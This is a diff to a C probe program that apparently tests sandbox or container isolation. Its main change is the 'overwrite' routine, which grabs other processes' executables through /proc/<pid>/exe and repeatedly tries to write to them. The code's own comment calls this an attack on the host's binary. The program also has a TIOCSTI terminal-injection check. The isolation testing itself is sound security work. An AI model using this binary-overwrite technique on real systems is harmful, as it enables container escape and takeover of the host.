@@ -109,22 +109,25 @@ static int scan(char **known) {
     return 0;
 }
 
-// Catches the executable of any other process whose file is not ours, holds it, and tries to write to it until stdin
-// closes: the attack on the host's binary.
-static int overwrite(void) {
+// Catches executables of `size` bytes that other processes run, says so, holds them, and tries to write to them until
+// stdin closes: the attack on the host's binary.
+static int overwrite(char **a) {
     char path[64];
     int held[64], n = 0, wrote = 0, last = 0;
-    struct stat mine, st;
+    off_t size = strtoll(a[0], 0, 0);
+    struct stat st, known[64];
     struct pollfd in = {0, POLLIN, 0};
-    stat("/proc/self/exe", &mine);
     printf("up\n"); fflush(stdout);
     while (poll(&in, 1, 0) == 0) {
         for (int pid = 2; pid < 300 && n < 64; pid++) {
             if (pid == getpid()) continue;
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            int fd = open(path, O_RDONLY | O_CLOEXEC), old = 0;
             if (fd < 0) continue;
-            if (fstat(fd, &st) || st.st_ino == mine.st_ino) close(fd); else held[n++] = fd;
+            if (fstat(fd, &st) || st.st_size != size) { close(fd); continue; }
+            for (int i = 0; i < n; i++) old |= known[i].st_ino == st.st_ino && known[i].st_dev == st.st_dev;
+            if (!old) known[n] = st, held[n++] = fd; else close(fd);
+            printf("caught\n"); fflush(stdout);
         }
         for (int i = 0; i < n; i++) {
             snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
@@ -153,7 +156,7 @@ int main(int argc, char **argv) {
     if (!strcmp(verb, "int80")) { long r = int80(strtol(a[0], 0, 0)); printf("%s\n", r < 0 ? strerrorname_np(-r) : "ok"); return 0; }
     if (!strcmp(verb, "swap")) return swap(a);
     if (!strcmp(verb, "scan")) return scan(a);
-    if (!strcmp(verb, "overwrite")) return overwrite();
+    if (!strcmp(verb, "overwrite")) return overwrite(a);
     if (!strcmp(verb, "tiocsti")) { char c = 'x'; return say("tiocsti", ioctl(0, TIOCSTI, &c)); }
     if (!strcmp(verb, "ctty")) { int fd = open("/dev/tty", O_RDWR); return say("ctty", fd); }
     if (!strcmp(verb, "openpty")) { // through /dev/ptmx, then the name and device number of the slave
